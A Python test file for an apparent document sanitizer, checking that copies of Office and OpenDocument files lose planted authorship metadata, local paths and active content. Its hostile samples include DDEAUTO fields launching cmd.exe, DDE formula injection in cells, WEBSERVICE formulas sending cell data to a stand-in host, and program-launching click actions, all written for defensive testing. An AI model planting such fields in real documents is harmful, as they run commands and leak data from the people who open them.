"""Whatever is planted in a document, its copy tells of no sender and calls nobody."""

import posixpath
import re

import pytest
from lxml import etree

from tests.bot.evidence.sandbox.documents.test_clean import parts
from tests.bot.evidence.sandbox.sandboxes import copied
from tests.bot.evidence.sandbox.test_pictures import MARK, camera, is_bare, picture
from tests.support.hostile import TYPES, docx, zipped

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
PATH = r"C:\Users\TANDA\Documents"
"""Every mark that is planted here is this word, whatever stands around it."""


def rels(*lines: str) -> bytes:
    told = "".join(f"<Relationship {line}/>" for line in lines)
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{told}</Relationships>'.encode()


def linked(
    main: str, line: str, more: dict[str, bytes] | None = None
) -> dict[str, bytes]:
    """Return parts among which the main one leads to one more."""
    folder, base = posixpath.split(main)
    name, parts_ = f"{folder}/_rels/{base}.rels", dict(more or {})
    listed = parts_.pop(name, rels())
    end = f"<Relationship {line}/></Relationships>".encode()
    return parts_ | {name: listed.replace(b"</Relationships>", end)}


def book(
    workbook: str = "", sheet: str = "", more: dict[str, bytes] | None = None
) -> bytes:
    more = linked(
        "xl/workbook.xml",
        'Id="s1" Type="x/worksheet" Target="worksheets/sheet1.xml"',
        more,
    )
    return zipped(
        {
            "[Content_Types].xml": TYPES.encode(),
            "xl/workbook.xml": (
                f'<workbook {X} xmlns:r="{R}" {MC}>{workbook}'
                '<sheets><sheet name="L" r:id="s1"/></sheets></workbook>'
            ).encode(),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet {X} xmlns:r="{R}">{sheet}</worksheet>'.encode()
            ),
            **more,
        }
    )


def slides(
    slide: str = "", more: dict[str, bytes] | None = None, show: str = "1"
) -> bytes:
    more = linked(
        "ppt/presentation.xml",
        'Id="s1" Type="x/slide" Target="slides/slide1.xml"',
        more,
    )
    return zipped(
        {
            "[Content_Types].xml": TYPES.encode(),
            "ppt/presentation.xml": (
                f'<p:presentation {P} xmlns:r="{R}"><p:sldIdLst><p:sldId r:id="s1"/>'
                "</p:sldIdLst></p:presentation>"
            ).encode(),
            "ppt/slides/slide1.xml": (
                f'<p:sld {P} {A} {MC} xmlns:r="{R}" show="{show}">{slide}</p:sld>'.encode()
            ),
            **more,
        }
    )


def odt(body: str = "", more: dict[str, bytes] | None = None) -> bytes:
    spaces = (
        'xmlns:o="urn:o" xmlns:t="urn:t" xmlns:x="http://www.w3.org/1999/xlink" '
        'xmlns:d="urn:d" xmlns:s="urn:svg" xmlns:dc="urn:dc"'
    )
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": f"<o:document-content {spaces}>{body}</o:document-content>".encode(),
            **(more or {}),
        }
    )


def run(instruction: str) -> str:
    return f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def complex_field(*instructions: str) -> str:
    told = "".join(map(run, instructions))
    return (
        f"<w:p>{char('begin')}{told}{char('separate')}<w:r><w:t>hasil</w:t></w:r>"
        f"{char('end')}</w:p>"
    )


def cell(formula: str) -> str:
    return (
        f'<sheetData><row><c t="str"><f>{formula}</f><v>hasil</v></c></row></sheetData>'
    )


WORD2012 = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
TELLING = {
    "the folder of a sheet": (
        book(
            '<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath xmlns:x15ac="urn:ac" '
            f'url="{PATH}"/></mc:Choice></mc:AlternateContent><sheets/>'
        ),
        "author",
    ),
    "who refreshed a pivot table": (
        book(
            more={
                "xl/pivotCache/pivotCacheDefinition1.xml": (
                    f'<p {X} refreshedBy="TANDA" refreshedDate="1TANDA"/>'.encode()
                )
            }
        ),
        "words",
    ),
    "a person's own view": (
        book('<customWorkbookViews><v name="TANDA"/></customWorkbookViews>'),
        "author",
    ),
    "who changed slides": (
        slides(more={"ppt/changesInfos/changesInfo1.xml": b'<c name="TANDA"/>'}),
        "author",
    ),
    "when slides were changed": (
        slides(more={"ppt/revisionInfo.xml": b'<c dt="TANDA"/>'}),
        "author",
    ),
    "tags of slides": (
        slides(more={"ppt/tags/tag1.xml": b'<t val="TANDA"/>'}),
        "author",
    ),
    "the tenant of a label": (
        docx("", {"docMetadata/LabelInfo.xml": b'<l siteId="TANDA"/>'}),
        "author",
    ),
    "small letters and large": (
        docx("", {"DOCPROPS/Core.XML": b"<l>TANDA</l>"}),
        "author",
    ),
    "what stands for a picture": (
        docx(f'<w:drawing><d:docPr xmlns:d="d" name="a" descr="{PATH}"/></w:drawing>'),
        "words",
    ),
    "the name of a photo": (
        docx('<w:drawing><d:cNvPr xmlns:d="d" name="TANDA.jpg"/></w:drawing>'),
        "author",
    ),
    "the number of a letter": (
        docx(
            f'<w15:docId {WORD2012} w15:val="TANDA"/><w:p w:paraId="TANDA" w:textId="TANDA"/>'
        ),
        "author",
    ),
    "where a picture was": (
        docx(complex_field(rf'INCLUDEPICTURE "{PATH}\x.png"')),
        "program",
    ),
    "a path in any attribute": (docx(f'<w:p w:x="{PATH}"/>'), "author"),
    "who made an object": (odt(more={"Object 1/meta.xml": b"<a>TANDA</a>"}), "files"),
    "how an object was set": (
        odt(more={"Bagan/settings.xml": b"<a>TANDA</a>"}),
        "author",
    ),
    "a picture of somebody's machine": (
        odt('<d:image x:href="file:/C:/Users/TANDA/a.png"/>'),
        "author",
    ),
    "a picture beside the document": (
        odt('<d:image x:href="../../home/TANDA/a.png"/>'),
        "author",
    ),
    "the name of a frame": (odt('<d:frame d:name="TANDA.jpg"/>'), ""),
    "a link within, to outside": (
        docx(
            "",
            {
                "word/_rels/document.xml.rels": rels(
                    f'Id="r1" Type="x/image" Target="file:///{PATH}"'
                )
            },
        ),
        "author",
    ),
}
REACHING = {
    "a started program": (
        docx(complex_field(r'DDEAUTO c:\\windows\\cmd.exe "/k TANDA"')),
        "program",
    ),
    "one in pieces": (
        docx(complex_field("DD", "EAU", "TO cmd", r'.exe "/k TANDA"')),
        "program",
    ),
    "one after a harmless word": (
        docx(complex_field("PAGE", 'X "http://TANDA.example"')),
        "",
    ),
    "one that another writes": (
        docx(
            f"<w:p>{char('begin')}{complex_field('QUOTE 68 TANDA')}{run(' PAGE TANDA')}"
            f"{char('end')}</w:p>"
        ),
        "",
    ),
    "one behind a deleted word": (
        docx(
            f"<w:p>{char('begin')}<w:del>{run('PAGE ')}</w:del>{run('DDEAUTO TANDA')}"
            f"{char('end')}</w:p>"
        ),
        "program",
    ),
    "one behind a remark": (
        book(sheet=cell('<!-- a -->WEBSERVICE("http://TANDA")')),
        "program",
    ),
    "a condition behind a remark": (
        book(sheet='<cfRule><formula><?a b?>WEBSERVICE("//TANDA")</formula></cfRule>'),
        "program",
    ),
    "a place on a server": (
        book(
            sheet='<hyperlinks><hyperlink ref="A1" location="http://TANDA/"/></hyperlinks>'
        ),
        "",
    ),
    "one that never ends": (
        docx(f"<w:p>{char('begin')}{run('DDEAUTO TANDA')}</w:p>"),
        "program",
    ),
    "one that never begins": (docx(f"<w:p>{run('DDEAUTO TANDA')}</w:p>"), "program"),
    "a link in a field": (
        docx(complex_field('HYPERLINK "https://jahat.example/TANDA"')),
        "",
    ),
    "a picture in a simple field": (
        docx(
            """<w:fldSimple w:instr='INCLUDEPICTURE "http://TANDA.example"'><w:r/></w:fldSimple>"""
        ),
        "program",
    ),
    "a question to a server": (
        book(sheet=cell('WEBSERVICE("http://jahat.example/TANDA?"&amp;A1)')),
        "program",
    ),
    "a link in a cell": (book(sheet=cell('HYPERLINK("http://TANDA","klik")')), ""),
    "a command in a cell": (book(sheet=cell("cmd|'/C TANDA'!A0")), "program"),
    "a command in a name": (
        book(
            "<definedNames><definedName>cmd|'/C TANDA'!A0</definedName></definedNames>"
        ),
        "program",
    ),
    "a question in a condition": (
        book(
            sheet='<conditionalFormatting><cfRule><formula>WEBSERVICE("//TANDA")'
            "</formula></cfRule></conditionalFormatting>"
        ),
        "program",
    ),
    "connections": (book(more={"xl/connections.xml": b"<c>TANDA</c>"}), "program"),
    "sheets of old macros": (
        book(more={"xl/macrosheets/sheet1.xml": b"<c>TANDA</c>"}),
        "program",
    ),
    "a helper from the web": (
        docx("", {"word/webextensions/taskpanes.xml": b"<c>TANDA</c>"}),
        "program",
    ),
    "a click that starts something": (
        slides(
            '<a:hlinkClick r:id="" action="ppaction://program?TANDA"/>',
        ),
        "program",
    ),
    "a formula in an open document": (
        odt('<t:cell t:formula="of:=WEBSERVICE(&quot;http://TANDA&quot;)" t:v="1"/>'),
        "program",
    ),
    "a listener": (
        odt(
            '<o:event-listeners><o:l x:href="vnd.sun.star.script:TANDA"/></o:event-listeners>'
        ),
        "program",
    ),
    "a source elsewhere": (
        odt('<o:dde-source o:dde-application="TANDA"/>hasil'),
        "program",
    ),
    "a connection in the text": (
        odt(
            '<t:dde-connection-decls><t:d o:dde-topic="TANDA"/></t:dde-connection-decls>'
            '<t:p><t:dde-connection t:connection-name="TANDA">hasil</t:dde-connection></t:p>'
        ),
        "program",
    ),
}


def told(copy: bytes) -> bytes:
    found = parts(copy)
    return b"".join([*found.values(), *map(str.encode, found)])


@pytest.mark.parametrize("name", [*TELLING, *REACHING])
def test_nothing_planted_comes_out(name):
    original, code = (TELLING | REACHING)[name]
    made = copied(original)
    assert "why" not in made.facts
    assert b"TANDA" in told(original)
    assert b"TANDA" not in told(made.copy)
    assert code in made.facts["hidden"]
    assert (b"hasil" in told(original)) == (b"hasil" in told(made.copy))


@pytest.mark.parametrize(
    "instruction",
    [
        "PAGE",
        ' TOC \\o "1-3" \\h ',
        'HYPERLINK \\l "_Toc1" \\h',
        "SEQ Tabel \\* ARABIC",
    ],
)
def test_a_field_that_looks_at_the_text_alone_stays(instruction):
    whole, simple = complex_field(instruction[:3], instruction[3:]), instruction
    simple = f"<w:fldSimple w:instr='{instruction}'><w:r/></w:fldSimple>"
    found = parts(copied(docx(whole + simple)).copy)["word/document.xml"]
    assert found.count(b"instrText>") == 4
    assert found.count(b"fldCharType") == 3
    assert b"fldSimple" in found


def test_plain_formulas_hide_nothing_and_their_values_stay():
    made = copied(
        book(
            "<definedNames><definedName>Lembar1!$A$1:$B$2</definedName></definedNames>",
            cell("SUM(A1:A9)"),
        )
    )
    assert made.facts["hidden"] == ""
    found = told(made.copy)
    assert b"SUM" not in found
    assert b"hasil" in found
    assert b"Lembar1!$A$1:$B$2" in found


def test_words_around_what_goes_stay_in_their_order():
    body = (
        "<t:p>a<t:file-name>b<t:s/>c</t:file-name>d<t:file-name>e</t:file-name>f</t:p>"
    )
    found = parts(copied(odt(body)).copy)["content.xml"]
    assert re.sub(rb"<[^>]*>", b"", found).strip() == b"abcdef"


PHOTOS = {
    "a PNG by the name of a JPEG": (
        "image1.jpeg",
        picture("PNG", exif=camera()),
        "PNG",
    ),
    "a JPEG by the name of a PNG": (
        "image1.png",
        picture("JPEG", exif=camera()),
        "JPEG",
    ),
    "a JPEG by no known name": ("image1.tmp", picture("JPEG", exif=camera()), "JPEG"),
    "a broken JPEG": ("image1.jpg", b"\xff\xd8\xff\xe1" + MARK, "PNG"),
    "a broken PNG": ("image1.png", picture("PNG")[:60] + MARK, "PNG"),
    "no picture": ("image1.png", b"<svg>" + MARK, "PNG"),
    "an empty picture": ("image1.gif", b"", "PNG"),
}


def pictured(base: str, data: bytes) -> bytes:
    line = f'Id="p1" Type="x/image" Target="media/{base}"'
    more = linked("word/document.xml", line, {f"word/media/{base}": data})
    return docx(f'<w:p><a:blip {A} xmlns:r="{R}" r:embed="p1"/></w:p>', more)


@pytest.mark.parametrize("name", PHOTOS)
def test_a_picture_is_what_it_begins_with(name):
    base, data, form = PHOTOS[name]
    made = copied(pictured(base, data))
    assert "why" not in made.facts
    assert is_bare(parts(made.copy)[f"word/media/{base}"]).format == form


CHART = b'<c:chart xmlns:c="urn:c" xmlns:r="%b"><c:externalData r:id="r1"/></c:chart>'
OUTSIDE = 'Target="https://contoh.example" TargetMode="External"'
LINKED = {
    "another book": book(
        '<sheets/><externalReferences><externalReference r:id="r1"/></externalReferences>',
        more={
            "xl/_rels/workbook.xml.rels": rels(
                'Id="r1" Type="x/externalLink" Target="externalLinks/externalLink1.xml"'
            ),
            "xl/externalLinks/externalLink1.xml": b"<a/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                f'Id="r1" Type="x/path" {OUTSIDE}'
            ),
        },
    ),
    "a printer": book(
        sheet='<pageSetup r:id="r1"/><legacyDrawingHF r:id="r2"/>',
        more={
            "xl/worksheets/_rels/sheet1.xml.rels": rels(
                'Id="r1" Type="x/p" Target="../printerSettings/printerSettings1.bin"',
                'Id="r2" Type="x/v" Target="../drawings/vmlDrawing1.vml"',
            ),
            "xl/printerSettings/printerSettings1.bin": b"x",
            "xl/drawings/vmlDrawing1.vml": b"<x/>",
        },
    ),
    "the numbers of a chart": docx(
        "",
        {
            "word/charts/chart1.xml": CHART % R.encode(),
            "word/charts/_rels/chart1.xml.rels": rels(
                'Id="r1" Type="x/p" Target="../embeddings/b.xlsx"'
            ),
            "word/embeddings/b.xlsx": b"x",
        },
    ),
    "tags": slides(
        '<p:custDataLst><p:tags r:id="r1"/></p:custDataLst>',
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                'Id="r1" Type="x/tags" Target="../tags/tag1.xml"'
            ),
            "ppt/tags/tag1.xml": b"<a/>",
        },
    ),
    "a lost picture": slides(
        '<a:blip r:embed="r1" r:link="r2"/>',
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                'Id="r1" Type="x/image" Target="NULL"',
                f'Id="r2" Type="x/image" {OUTSIDE}',
            )
        },
    ),
    "a file in slides": slides(
        "<p:graphicFrame><a:graphic><a:graphicData><mc:AlternateContent><mc:Choice>"
        '<p:oleObj r:id="r1"/></mc:Choice><mc:Fallback><p:oleObj r:id="r1"><p:pic>'
        '<a:blip r:embed="r2"/></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent>'
        "</a:graphicData></a:graphic></p:graphicFrame>",
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                'Id="r1" Type="x/ole" Target="../embeddings/o.bin"',
                'Id="r2" Type="x/image" Target="../media/image1.png"',
            ),
            "ppt/embeddings/o.bin": b"x",
            "ppt/media/image1.png": picture("PNG"),
        },
    ),
    "no list of links": docx(
        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="r9"><w:r><w:t>hasil</w:t></w:r></w:hyperlink>'
        '<w:pict xmlns:v="urn:v" xmlns:r="urn:r"><v:imagedata/></w:pict></w:p>'
    ),
    "a link that stays": docx(
        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="r1"><w:r><w:t>hasil</w:t></w:r></w:hyperlink></w:p>',
        {"word/_rels/document.xml.rels": rels(f'Id="r1" Type="x/hyperlink" {OUTSIDE}')},
    ),
}


def named(found: dict[str, bytes]) -> set[tuple[str, str]]:
    """Return every link that a part names, with the part."""
    return {
        (name, value)
        for name, data in found.items()
        if name.endswith(".xml")
        for one in etree.fromstring(data).iter()
        for told, value in one.attrib.items()
        if told.startswith(f"{{{R}}}") and value
    }


def listed(found: dict[str, bytes]) -> set[tuple[str, str]]:
    return {
        (
            posixpath.join(posixpath.dirname(posixpath.dirname(name)), base[:-5]),
            link.get("Id"),
        )
        for name, data in found.items()
        if name.endswith(".rels")
        for base in [posixpath.basename(name)]
        for link in etree.fromstring(data)
    }


@pytest.mark.parametrize("name", [*LINKED, *TELLING, *REACHING])
def test_no_part_names_a_link_that_is_gone(name):
    sample = LINKED[name] if name in LINKED else (TELLING | REACHING)[name][0]
    found = parts(copied(sample).copy)
    assert named(found) <= listed(found)
    everything = b"".join(found.values())
    assert b"contoh.example" not in everything
    for empty in (b"externalReferences", b"custDataLst", b"oleObj", b"graphicFrame"):
        assert empty not in everything


def test_what_was_seen_of_a_file_in_slides_stays():
    found = parts(copied(LINKED["a file in slides"]).copy)
    assert b'r:embed="r2"' in found["ppt/slides/slide1.xml"]
    assert ("word/document.xml", "r1") in named(
        parts(copied(LINKED["a link that stays"]).copy)
    )
